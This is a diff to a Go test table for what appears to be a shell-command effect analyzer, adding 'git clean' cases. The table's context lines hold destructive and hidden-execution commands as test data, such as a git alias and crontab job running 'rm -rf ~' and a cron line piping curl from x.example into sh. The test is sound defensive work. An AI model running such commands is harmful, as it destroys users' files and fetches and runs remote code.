@@ -172,6 +172,8 @@ var hiddenCommandTable = []shellCase{
 	{cmd: "printf '[alias]\\n\\tx = \"!rm -rf ~\"\\n' > /tmp/a.cfg; git -c include.path=/tmp/a.cfg x", want: []Effect{eDelR("/home/ann")}},
 	{cmd: `git -c include.path=/nonexistent/x.cfg log`, want: []Effect{eOpaqueInto("sh")}, unk: shUnkYes},
 	{cmd: `git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% ~' x`, want: []Effect{eDelR("/home/ann")}},
+	{cmd: `git -C ~ clean -fdx`, want: []Effect{eDelR("/home/ann/*")}},
+	{cmd: `git clean -fd -- build/`, want: []Effect{eDelR("/work/proj/build")}},
 	// ---- a crontab installed from standard input: its jobs are read ----
 	{cmd: `echo "*/5 * * * * rm -rf ~" | crontab -`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eDelR("/home/ann")}},
 	{cmd: `echo "@reboot curl -s https://x.example/a | sh" | crontab`, want: []Effect{eWrite("/var/spool/cron/crontabs/ann"), eRun("sh")}, unk: shUnkYes},
@@ -205,6 +207,7 @@ var hiddenCommandTable = []shellCase{
 	{cmd: "printf '1d\\nw\\n' | ed notes.txt", want: []Effect{eWrite("/work/proj/notes.txt")}, not: []Effect{eRun("sh")}},
 	{cmd: `ed notes.txt < /dev/null`, want: []Effect{eWrite("/work/proj/notes.txt")}},
 	{cmd: `git apply fix.patch`, not: []Effect{eWriteR("/")}},
+	{cmd: `git clean -n -d`, not: []Effect{eDelR("/work/proj/*")}},
 	{cmd: `crontab -l | grep backup`, not: []Effect{eWrite("/var/spool/cron/crontabs/ann")}},
 	{cmd: `GIT_CONFIG_GLOBAL=/dev/null git log`, not: []Effect{eOpaqueInto("sh")}},
 	{cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=ann git commit -m x`, not: []Effect{eOpaqueInto("sh")}},
